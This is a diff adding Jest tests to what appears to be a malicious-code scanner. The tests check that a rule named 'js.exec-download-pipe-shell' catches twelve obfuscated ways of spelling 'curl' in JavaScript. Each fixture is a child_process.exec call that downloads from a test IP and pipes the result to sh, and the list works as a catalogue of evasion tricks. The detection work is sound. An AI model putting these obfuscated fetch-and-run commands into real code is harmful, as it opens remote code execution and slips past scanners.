@@ -2306,3 +2306,25 @@ place(target, 'content.js', compose(head, body, tail)).then(() => {
     expect(found).toEqual(expect.arrayContaining(['js.page-secret-exfil', 'script.persistence']));
   });
 });
+
+describe('built-ins an attacker builds a command with', () => {
+  it.each([
+    ["Array.from(['c','u','r','l']).join('')"],
+    ["Array.from('curl').join('')"],
+    ["Array.of('x', 'curl')[1]"],
+    ["['x','curl'].at(-1)"],
+    ["['l','r','u','c'].toReversed().join('')"],
+    ["['curl'].toString()"],
+    ["'curl'.at(0) + 'url'"],
+    ["'curl'.padStart(4)"],
+    ["structuredClone({ a: 'curl' }).a"],
+    ["atob(btoa('curl'))"],
+    ['new TextDecoder().decode(new TextEncoder().encode("curl"))'],
+    ["[['c','u'],['r','l']].flat().join('')"],
+  ])('%s', (expr) => {
+    const found = load({
+      'index.js': `require('child_process').exec(${expr} + ' -s http://203.0.113.9/p | sh');`,
+    });
+    expect(found.evidence.map((f) => f.rule)).toContain('js.exec-download-pipe-shell');
+  });
+});
